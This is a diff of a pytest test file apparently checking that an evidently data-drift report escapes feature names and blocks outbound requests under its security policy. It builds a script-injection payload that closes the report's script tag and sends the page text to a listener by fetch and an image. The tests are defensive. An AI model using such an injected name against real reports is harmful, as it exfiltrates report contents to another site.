@@ -1,6 +1,7 @@
-"""The policy evidently's drift report is served under: a script smuggled in through a
-feature name (evidently writes column names unescaped inside its own ``<script>``) runs
-but can send nothing to another site, and a report of plain names still draws."""
+"""evidently's drift report as served: a script in a feature name (evidently writes column
+names unescaped inside its own ``<script>``) does not run, the report still draws, and
+under the policy it is served with a script that did run could send nothing to another
+site."""
 
 from __future__ import annotations
 
@@ -62,17 +63,21 @@ def listener() -> Iterator[Listener]:
         thread.join()
 
 
-def injected_name(site: str) -> str:
-    """A feature name that closes evidently's script and opens one that sends the page's
-    text to ``site`` by ``fetch`` and by an image, then marks on the page, once both
-    have settled, whether the fetch went out."""
+def leak_script(site: str) -> str:
+    """A script that sends the page's text to ``site`` by ``fetch`` and by an image, then
+    marks on the page, once both have settled, whether the fetch went out."""
     leak = f"'{site}/leak?t='+encodeURIComponent(document.body.innerText.slice(0,80))"
     return (
-        "x0</script><script>Promise.all(["
+        "Promise.all(["
         f"fetch({leak},{{mode:'no-cors'}}).then(()=>'sent',()=>'refused'),"
         f"new Promise(r=>{{const i=new Image();i.onload=i.onerror=r;i.src={leak}}})"
-        "]).then(([f])=>{document.documentElement.dataset.leak=f})</script>"
+        "]).then(([f])=>{document.documentElement.dataset.leak=f})"
     )
+
+
+def injected_name(site: str) -> str:
+    """A feature name that would close evidently's script and run :func:`leak_script`."""
+    return f"x0</script><script>{leak_script(site)}</script>"
 
 
 @pytest.fixture
@@ -128,13 +133,29 @@ def report_of(
         yield open_report
 
 
-def test_a_script_in_a_feature_name_sends_nothing_to_another_site(
+def test_a_script_in_a_feature_name_does_not_run_and_the_report_draws(
     report_of: Callable[[str], Session], listener: Listener
 ) -> None:
-    """The script ran, sandboxed, and sent the report's text to another site three
-    times (an image, then ``fetch``): nothing may be fetched, and images only inline."""
+    """The script ran (sandboxed; the policy kept it from sending the report's text to
+    another site, which it did three times under the policy before) and the report drew
+    no plot: each ``<`` of a name now reaches evidently made inert."""
     viewer = report_of(injected_name(listener.url))
     page = viewer.page
+    page.wait_for_function("() => document.querySelectorAll('td canvas').length > 0")
+    assert page.evaluate("() => document.documentElement.dataset.leak") is None
+    assert "x0<" in page.locator("body").inner_text()  # the name is shown
+    assert listener.paths == []
+    assert viewer.errors == []
+
+
+def test_a_script_that_runs_in_the_report_sends_nothing_to_another_site(
+    report_of: Callable[[str], Session], listener: Listener
+) -> None:
+    """The policy is a second line: a script running in the report (here evaluated in the
+    page, under its policy) may fetch nothing, and load images only inline."""
+    viewer = report_of("x0")
+    page = viewer.page
+    page.evaluate(leak_script(listener.url))
     page.wait_for_function("() => document.documentElement.dataset.leak")  # both settled
     assert page.evaluate("() => document.documentElement.dataset.leak") == "refused"
     assert listener.paths == []
